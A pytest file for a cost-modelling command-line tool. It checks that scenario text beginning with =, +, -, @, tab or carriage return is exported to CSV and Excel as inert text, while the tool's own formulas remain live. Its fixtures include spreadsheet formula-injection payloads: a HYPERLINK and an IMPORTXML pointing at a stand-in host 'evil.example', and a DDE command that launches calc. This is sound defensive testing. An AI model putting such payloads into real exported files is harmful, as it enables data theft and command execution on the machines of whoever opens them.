"""Spreadsheet formula injection: text from a scenario that starts with =, +, -, @, tab or carriage return
is written as text, never as a formula: in CSV with a leading apostrophe (OWASP), in the workbook as a
string cell, while the model's own formulas stay live. Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
from typer.testing import CliRunner

from barnetmodel.cli.app import app
from barnetmodel.output.csv_out import spreadsheet_safe

runner = CliRunner()
ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "key": "=cmd|' /C calc'!A0",
    "option": '=IMPORTXML("http://evil.example","//a")',
    "line": "+SUM(1,2)",
    "income": "-2+3",
    "risk": "@SUM(1)",
    "target": "\t=1+1",
    "source": "\r=1+1",
    "unit": "-£m",
}
SCENARIO = f"""\
title: '{ATTACKS["title"]}'
description: '=1+2'
sources:
  '=src': '{ATTACKS["option"]}'
horizon: {{start: 2013, years: 3}}
money: {{inflation: 0.02, discount: 0.035, unit: '{ATTACKS["unit"]}'}}
targets:
  - {{name: "{ATTACKS["target"]}", amount: 1, source: '=src'}}
baseline: in_house
options:
  in_house:
    title: In-house
    lines:
      - {{name: Staff, annual: {{triangular: {{low: 9, mode: 10, high: 12}}}}}}
  "{ATTACKS["key"]}":
    title: '{ATTACKS["option"]}'
    lines:
      - {{name: '{ATTACKS["line"]}', annual: 12, source: '=src', note: '=2+2'}}
      - {{name: '{ATTACKS["income"]}', annual: -0.5}}
    risks:
      - {{name: '{ATTACKS["risk"]}', probability: 0.1, cost: 2, note: "{ATTACKS["source"]}"}}
"""


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(found: list[str]) -> None:
    """No cell a spreadsheet would read as a formula; every attack there, disarmed."""
    live = [cell for cell in found if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert live == []
    for cell in found:
        if cell.startswith("-"):
            float(cell)  # a cell starting with '-' is a negative number, nothing else


def test_the_apostrophe_only_where_a_formula_could_start() -> None:
    assert [spreadsheet_safe(x) for x in ("=1", "+1", "-x", "@x", "\tx", "\rx", "a=b", "", "£m")] == [
        "'=1",
        "'+1",
        "'-x",
        "'@x",
        "'\tx",
        "'\\x0dx",  # a carriage return shown as an escape, as every control character is
        "a=b",
        "",
        "£m",
    ]
    assert spreadsheet_safe(-1.5) == "-1.5" and spreadsheet_safe(2013) == "2013"


def test_run_csv(write: Callable[..., Path]) -> None:
    path = write(SCENARIO)
    result = runner.invoke(app, ["run", str(path), "-f", "csv"])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert_no_formula(found)
    assert "'" + ATTACKS["key"] in found and "'" + ATTACKS["unit"] in found
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert any(float(row["saving_nominal"]) < 0 for row in rows)  # negative figures are numbers, not text


def test_sensitivity_csv(write: Callable[..., Path]) -> None:
    path = write(SCENARIO)
    result = runner.invoke(app, ["sensitivity", str(path), "-f", "csv"])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert_no_formula(found)
    statements = [row["statement"] for row in csv.DictReader(io.StringIO(result.stdout)) if row["statement"]]
    assert statements and all(s.startswith("'" + ATTACKS["option"]) for s in statements)


def test_compare_csv(write: Callable[..., Path]) -> None:
    path = write(SCENARIO)
    other = write(SCENARIO.replace("annual: 12", "annual: 9"), "=other.yaml")
    result = runner.invoke(app, ["compare", str(path), str(other), "-f", "csv"])
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    assert_no_formula(found)
    assert "'=other.yaml" in found


def test_workbook_writes_scenario_text_as_text_and_keeps_its_own_formulas(
    write: Callable[..., Path], tmp_path: Path
) -> None:
    path = write(SCENARIO)
    out = tmp_path / "model.xlsx"
    result = runner.invoke(app, ["run", str(path), "-f", "xlsx", "-o", str(out), "--draws", "200"])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    formulas, texts = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif cell.data_type == "s":
                    texts.append(cell.value)
    for attack in ("HYPERLINK", "IMPORTXML", "+SUM", "@SUM", "=1+1", "=1+2", "=2+2", "-2+3", "=src"):
        assert not [f for f in formulas if attack in f], attack
    # The option's key names its sheet: formulas refer to it, quoted as a sheet name, which runs nothing.
    sheet = "'=cmd|'' _C calc''!A0'!"
    assert all(f.replace(sheet, "").count("cmd|") == 0 for f in formulas)
    assert any(sheet in f for f in formulas)
    for text in (ATTACKS["title"], ATTACKS["option"], ATTACKS["line"], ATTACKS["risk"], ATTACKS["target"], "=2+2"):
        assert text in texts, text
    assert ATTACKS["key"] in texts
    assert len(formulas) > 100 and any(f.startswith("=SUM(") for f in formulas)  # the model stays live
